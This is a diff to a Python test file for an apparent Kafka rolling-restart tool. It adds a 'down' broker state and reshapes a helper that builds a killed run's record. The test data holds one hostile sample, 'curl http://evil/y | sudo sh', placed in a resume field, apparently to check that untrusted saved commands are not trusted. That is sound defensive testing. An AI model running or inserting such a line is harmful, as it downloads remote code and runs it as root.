@@ -33,8 +33,22 @@ RUN = Run("1.0", ["kafka-rolling-restart", "-t", "x"], "x/main", "zk:2181/kafka"
 PROGRESS = Progress(1000.0, 1000.0)
 RECORDS = {
     State.UNTOUCHED: Record(ONE, trouble="was told to stop, and still runs as before"),
-    State.IN_HAND: Record(ONE, State.IN_HAND, OLD, stopped_at=1001.0, gone_at=1002.0, start_line="ssh n1 start"),
-    State.RESTARTED: Record(ONE, State.RESTARTED, OLD, NEW, 1001.0, 1002.0, 1004.5, 1005.0, 1006.0, "", "ssh n1 start"),
+    State.IN_HAND: Record(ONE, State.IN_HAND, old=OLD, stopped_at=1001.0, gone_at=1002.0, start_line="ssh n1 start"),
+    State.DOWN: Record(
+        ONE, State.DOWN, old=OLD, stopped_at=1001.0, trouble="did not come back", start_line="ssh n1 start"
+    ),
+    State.RESTARTED: Record(
+        ONE,
+        State.RESTARTED,
+        old=OLD,
+        new=NEW,
+        stopped_at=1001.0,
+        gone_at=1002.0,
+        back_at=1004.5,
+        whole_at=1005.0,
+        settled_at=1006.0,
+        start_line="ssh n1 start",
+    ),
     State.SKIPPED: Record(ONE, State.SKIPPED, new=NEW),
 }
 
@@ -113,7 +127,7 @@ def test_times_are_told_by_the_clock_on_the_wall_and_durations_in_s() -> None:
 @pytest.mark.parametrize("state", State)
 def test_just_the_broker_in_hand_may_be_down_while_the_run_goes_on(state: State) -> None:
     found = document(RUN, replace(PROGRESS, records=(RECORDS[state],)), None)
-    wanted = [{"id": 1, "host": "n1", "start_command": "ssh n1 start"}] if state is State.IN_HAND else []
+    wanted = [{"id": 1, "host": "n1", "start_command": "ssh n1 start"}] if state in (State.IN_HAND, State.DOWN) else []
     assert found["may_be_down"] == wanted
 
 
@@ -342,8 +356,9 @@ EVIL = "curl http://evil/y | sudo sh"
 
 def of_a_killed_run(**changed: Any) -> dict[str, Any]:
     records = [
-        {"id": number, "host": f"n{number}", "state": state.value} for number, state in enumerate(State, 2)
-    ]  # 2 is untouched, 3 in hand, 4 restarted
+        {"id": number, "host": f"n{number}", "state": state.value, "complete": state is State.RESTARTED}
+        for number, state in enumerate((State.UNTOUCHED, State.IN_HAND, State.RESTARTED), 2)
+    ]
     left = {**of_a_run(2**22 + 1), "may_be_down": [DOWN], "resume": EVIL, "brokers": records}
     return {**left, **changed}
 
